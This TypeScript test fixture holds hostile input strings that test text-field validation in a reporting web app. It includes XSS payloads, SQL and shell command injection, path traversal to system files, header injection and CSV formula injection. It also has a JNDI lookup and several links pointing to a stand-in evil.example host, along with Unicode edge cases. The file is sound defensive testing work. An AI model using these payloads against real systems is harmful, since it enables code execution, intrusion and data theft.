/**
 * Texts that break programs which trust them, by what they are. Tests of the rules (lib/auth/text-fields.test.ts)
 * and stories against the production build (e2e/texts.spec.ts) send the same ones. They are told apart by hand, not
 * by the rule under test.
 */

/** Sets this in a page where it runs as a script. */
export const CANARY = "__executed";
const RUN = `window.${CANARY}=1`;

/** Comes back character for character from a field of several lines, once white space at its ends is gone. */
export const KEPT: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  "script in a script": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  image: `<img src=x onerror="${RUN}">`,
  svg: `<svg/onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  mathml: `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  "end of a text field": `</textarea></title></style></noscript></template><script>${RUN}</script>`,
  "end of a comment": `--><!--><script>${RUN}</script><!--`,
  cdata: `<![CDATA[<script>${RUN}</script>]]>`,
  "end of an attribute": `" autofocus onfocus="${RUN}" x="`,
  "end of another attribute": `' onmouseover='${RUN}' x='`,
  "attribute without quotes": `x onclick=${RUN}`,
  "end of JSON in a script": `</script><script>${RUN}</script>{"a":"\\u003c/script>"}`,
  "address with a script": `javascript:${RUN}`,
  "address with data": `data:text/html,<script>${RUN}</script>`,
  "iframe and base": `<base href=//evil.example><iframe srcdoc="<script>parent.${CANARY}=1</script>">`,
  "meta refresh": `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  "style and import": `<style>@import'//evil.example';*{display:none}</style><link rel=stylesheet href=//evil.example>`,
  "form and button": `<form action=//evil.example><button formaction=javascript:${RUN}>送信</button>`,
  "entities of HTML": "&lt;b&gt; &amp; &#0; &#x110000; &nbsp &NotEqualTilde;",
  "full-width signs": `＜script＞${RUN}＜/script＞ ＂ ＇`,
  template: "{{constructor.constructor('x')()}} $\u007B7*7} #{7*7} <%= 7*7 %> [[7*7]] @(7*7)",
  "reference of the framework": "$undefined $1:props $L2 $@3 $F4 $K5 $NaN $$ $Sreact.fragment",
  "reference at the beginning": "$1:__proto__:then",
  "row of the framework": '1:{"status":"done"} 0:["$","script",null,{}]',
  JSON: '"}],"x":{"__proto__":{"admin":true}},"\\',
  prototype: "__proto__ constructor prototype toString hasOwnProperty",
  "escapes of JavaScript": "\\u0000 \\x00 \\n \\' \\` \\",
  SQL: "'; drop table report; -- \" $1 $$ E'\\\\' ; %00 /* */ Robert'); --",
  "pattern of SQL": "%_\\% [a-z]",
  "pattern of a replacement": "$& $` $' $<name> $0 \\1",
  "pattern that runs away": `${"a".repeat(60)}! (((((((((((((((((((([[[[[[`,
  "path out of a folder":
    "../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd C:\\CON \\\\host\\share",
  "header in a text": "x%0d%0aSet-Cookie:%20a=b Bcc: a@example.com",
  "log entry": "$\u007Bjndi:ldap://evil.example/a} %n%s%p%x%d {0} %1$s",
  "command of a shell": "`id` $(id) | id ; id & id > /dev/null \\",
  formula: `=HYPERLINK("https://evil.example","ここ")`,
  "formula with a command": "=cmd|' /C calc'!A0",
  "formula after a plus": "+SUM(1,1)",
  "formula after a minus": "-1+1",
  "formula after an at": "@SUM(1)",
  "formula after a full-width sign": "＝SUM(1) ＋1 －1 ＠A",
  "formula after a line": "x\n=1+1\t=1+1",
  "separators of CSV": 'a,b;c"d""e" ,',
  "apostrophe first": "'=1+1",
  "no value": "null undefined NaN true false 0 -0 1e309 0x1F [object Object]",
  "half-width kana": "ｶﾞｷﾞ ﾊﾟ",
  "compatibility ideographs": "\uFA19\uFA1B \u795E\u798F \u2F00 ㍻ ㍿ ① Ⅳ ㌔",
  "look-alikes under NFKC": "Ａｄｍｉｎ ﬁ ｌ⁄１ ℡ ⒈ ª",
  "characters beyond 16 bits": "\u{20BB7}野家 \u{29E3D} \u{1D49C} \u{10FFFD}",
  "variants of ideographs": "葛\u{E0100}飾 辻\u{E0101} 邉\u{E0102} ☃\uFE0F ☃\uFE0E",
  "combined letters": "e\u0301 が か\u3099 は\u309A 각 \u1112\u1161\u11AB",
  "many marks on a letter": `Z\u0310\u0353${"\u0301\u0323\u0334".repeat(60)}`,
  "marks on nothing": "\u0301\u20DD\u20E3",
  "joined emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👋🏽 🇯🇵 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} 1️⃣",
  "letters from right to left": "مرحبا שלום עולם",
  "invisible signs": "a\u00ADb\u200Bc\u200Cd\u200De\u2060f\u034Fg\u180Eh\u3164i",
  "spaces of all kinds": "a\u00A0b\u2003c\u3000d\u202Fe\u205Ff\u2000g",
  tags: "a\u{E0001}\u{E0061}\u{E0062}b",
  "private use": "\uE000\uF8FF\u{F0000}\u{100000}",
  noncharacters: "\uFDD0\uFDEF\u{1FFFE}\u{1FFFF}\u{10FFFF}",
  "widest character": "\uFDFD\u{12031}",
  "a long word": "W".repeat(300),
  "lines and tabs": "一行目\n\n三行目\n\t四行目\tの終わり",
  "a number of a task": "K02-03 03-16 @総務省 https://example.go.jp/?a=b&c=<d>",
};

/** Shown with its ends without white space, as everything is that people type. */
export const TRIMMED: Readonly<Record<string, [typed: string, kept: string]>> = {
  "spaces at the ends": [" \t\u3000 文 \u00A0\n ", "文"],
  "line breaks of Windows": ["一\r\n二\r\n", "一\n二"],
  "line breaks of an old Mac": ["一\r二", "一\n二"],
  "a mark of the byte order": ["\uFEFF文", "文"],
};

/** Is refused in every field, with words that name the field; `as`: what a form can't carry arrives as this. */
export const REFUSED: Readonly<Record<string, string>> = {
  NUL: "a\0b",
  escape: "a\u001B[31mb",
  backspace: "a\u0008b",
  "vertical tab": "a\u000Bb",
  "form feed": "a\u000Cb",
  delete: "a\u007Fb",
  "next line (C1)": "a\u0085b",
  "string terminator (C1)": "a\u009Cb",
  "line separator": "a\u2028b",
  "paragraph separator": "a\u2029b",
  "byte order mark inside": "a\uFEFFb",
  noncharacter: "a\uFFFEb",
  "last noncharacter": "a\uFFFFb",
  "annotation anchor": "a\uFFF9b",
  "replacement character": "a\uFFFDb",
  "high surrogate alone": "a\uD800b",
  "low surrogate alone": "a\uDC00b",
  "surrogates in the wrong order": "\uDE00\uD83D",
  "override to the left": "a\u202Etxt.exe",
  "embedding to the left": "a\u202Bb",
  "pop of a direction": "a\u202Cb",
  isolate: "a\u2067b\u2069",
  "mark of the left": "a\u200Fb",
  "mark of the Arabic letter": "a\u061Cb",
};

/** All texts, as they are typed. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...Object.values(KEPT),
  ...Object.values(TRIMMED).map(([typed]) => typed),
  ...Object.values(REFUSED),
];

/**
 * What a field is for. `text`: several lines, kept as typed · `line`: one line, kept as typed · `code`: a date, a
 * number, a choice: nothing hostile is one · `links`, `pasted`: text with a form of its own · `secret`: nobody is
 * shown it again.
 */
export type FieldKind = "text" | "line" | "code" | "links" | "pasted" | "secret";
type Fields = Readonly<Record<string, FieldKind>>;

const REPORT: Fields = {
  completedOn: "code",
  forecast: "code",
  effectiveOn: "code",
  note: "text",
  reason: "text",
  behalfReason: "text",
  links: "links",
};
const DEFINITION: Fields = {
  name: "line",
  unit: "line",
  initialValue: "code",
  initialOn: "code",
  targetValue: "code",
  targetOn: "code",
  behalfReason: "text",
};
const BEHALF: Fields = { behalfReason: "text" };
const COMMENT: Fields = { text: "text" };

/** Every field of every action into which a person, or a program, may write any text. */
export const TEXT_FIELDS: Readonly<Record<string, Fields>> = {
  signIn: { email: "line", password: "secret", callbackUrl: "secret" },
  startOidc: { callbackUrl: "secret" },
  changePassword: { currentPassword: "secret", newPassword: "secret", newPasswordAgain: "secret" },
  startThread: COMMENT,
  reply: COMMENT,
  editComment: COMMENT,
  createIndicator: DEFINITION,
  changeIndicator: DEFINITION,
  retireIndicator: BEHALF,
  recordIndicatorValue: {
    value: "code",
    effectiveOn: "code",
    note: "text",
    links: "links",
    behalfReason: "text",
  },
  withdrawIndicatorValue: BEHALF,
  submitKpiReport: { effectiveOn: "code", note: "text", links: "links", behalfReason: "text" },
  withdrawKpiReport: BEHALF,
  settleMark: { reason: "text" },
  submitReport: REPORT,
  reportAtDesk: REPORT,
  repeatReport: BEHALF,
  withdrawReport: BEHALF,
  withdrawAtDesk: BEHALF,
  submitReports: {
    pasted: "pasted",
    state: "code",
    effectiveOn: "code",
    completedOn: "code",
    forecast: "code",
    note: "text",
    reason: "text",
    behalfReason: "text",
  },
  commitAnswers: BEHALF,
  stateSchedule: { quarters: "code", behalfReason: "text" },
  withdrawSchedule: BEHALF,
  returnReview: { reason: "text" },
  saveContact: { section: "line", person: "line", reach: "line" },
};
